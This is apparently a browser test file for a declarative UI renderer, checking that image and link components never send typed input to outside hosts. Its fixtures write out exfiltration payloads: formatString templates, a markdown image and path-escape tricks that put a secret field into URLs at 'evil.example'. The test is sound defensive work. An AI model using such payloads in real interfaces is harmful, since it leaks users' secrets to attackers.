// @vitest-environment node
// What a view makes a browser ask for: never anything that is typed, and what cannot be had is a link.

import { describe, expect, it } from "vitest";
import { browserFor, isThere } from "./chromium";
import { guestCode, HANGS, responds, show } from "./guest";

const EVIL = "https://evil.example";
const template = (place: string) => ({
  call: "formatString",
  args: { value: `${EVIL}/?q=\${${place}}` },
});
const image = (id: string, url: unknown) => ({ id, component: "Image", url });
const list = (id: string, child: string, path: string) => ({
  id,
  component: "List",
  children: { componentId: child, path },
});
const records = { rows: { path: "/context/list" }, titleField: "url" };
const column = { field: "url", label: "U", format: "image" };
const parts = [
  { id: "field", component: "TextField", label: "Secret", value: { path: "/context/secret" } },
  { id: "other", component: "TextField", label: "Other", value: { path: "/ui/other" } },
  image("path", { path: "/context/url" }),
  image("filled", template("/context/secret")),
  image("ui", template("/ui/other")),
  image("called", template("formatString(value: /context/secret)")),
  image("quoted", template("formatString(value: '${/context/secret}')")),
  image("data", { call: "formatString", args: { value: { path: "/props/template" } } }),
  image("chosen", {
    call: "pluralize",
    args: {
      value: { call: "length", args: { value: { path: "/context/secret" }, min: 3 } },
      one: `${EVIL}/long`,
      other: { path: "/context/url" },
    },
  }),
  image("escaped", { path: "/context~1/../context/url" }),
  {
    id: "facts",
    component: "KeyValue",
    items: [
      { label: "a", value: { path: "/context/url" }, format: "image" },
      { label: "b", value: template("/context/secret"), format: "image" },
    ],
  },
  { id: "cards", component: "Cards", ...records, imageField: "url", columns: [column] },
  { id: "table", component: "Table", ...records, columns: [column] },
  { id: "tree", component: "Tree", ...records, root: { path: "/context/tree" }, columns: [column] },
  list("list", "item", "/context/list"),
  image("item", { path: "url" }),
  list("literal", "pixel", "/context/list"),
  image("pixel", `${EVIL}/pixel`),
  list("outer", "inner", "/context/list"),
  { id: "inner", component: "Cards", rows: { path: "more" }, titleField: "url", imageField: "url" },
  {
    id: "text",
    component: "Text",
    text: { call: "formatString", args: { value: `![x](${EVIL}/?q=\${/context/secret})` } },
  },
  {
    id: "link",
    component: "KeyValue",
    items: [{ label: "l", value: { path: "/context/url" }, format: "url" }],
  },
];
const inTemplates = ["item", "pixel", "inner"];

describe.skipIf(!isThere)("the addresses of a view", () => {
  const browser = browserFor(guestCode);

  it(
    "never carry what is typed, letter by letter or all at once",
    async () => {
      const entry = { url: `${EVIL}/record`, more: [{ url: `${EVIL}/inner` }] };
      const { page, requested, errors } = await show(browser(), {
        components: [
          {
            id: "root",
            component: "Column",
            children: parts.map(({ id }) => id).filter((id) => !inTemplates.includes(id)),
          },
          ...parts,
        ],
        props: { template: `${EVIL}/?q=\${/context/secret}` },
        context: {
          secret: "hunter1",
          url: `${EVIL}/slot`,
          list: [entry],
          tree: [entry],
        },
      });
      await page.getByLabel("Secret").pressSequentially("hunter2");
      await page.getByLabel("Other").pressSequentially("hunter3");
      await responds(page);
      expect(requested.filter((url) => url.includes("evil"))).toEqual(
        // Without what is typed they are addresses like any other.
        requested.filter((url) => url === `${EVIL}/?q=` || url === `${EVIL}/long`),
      );
      expect(
        await page
          .locator("img")
          .evaluateAll((images) =>
            images
              .map((image) => (image as HTMLImageElement).src)
              .filter((url) => /hunter|slot|record|inner|pixel/.test(url)),
          ),
      ).toEqual([]);
      expect(errors).toEqual([]);
      await page.close();
    },
    2 * HANGS,
  );

  it(
    "that were given are asked for, and are links where nothing comes of it",
    async () => {
      const given = "https://img.example/a.png";
      const { page, requested } = await show(browser(), {
        components: [
          { id: "root", component: "Column", children: ["image", "facts", "cards"] },
          image("image", { path: "/props/url" }),
          {
            id: "facts",
            component: "KeyValue",
            items: [{ label: "a", value: { path: "/props/url" }, format: "image" }],
          },
          {
            id: "cards",
            component: "Cards",
            rows: { path: "/props/rows" },
            titleField: "title",
            imageField: "url",
          },
        ],
        props: { url: given, rows: [{ title: "One", url: given }] },
      });
      for (const part of ["image", "keyvalue", "cards"])
        await page.locator(`.g-${part}:is(a), .g-${part} a`).waitFor();
      expect(new Set(requested)).toContain(given);
      expect(
        await page
          .locator("a")
          .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
      ).toEqual([given, given, given]);
      expect(await page.locator("img").count()).toBe(0);
      await page.close();
    },
    2 * HANGS,
  );
});
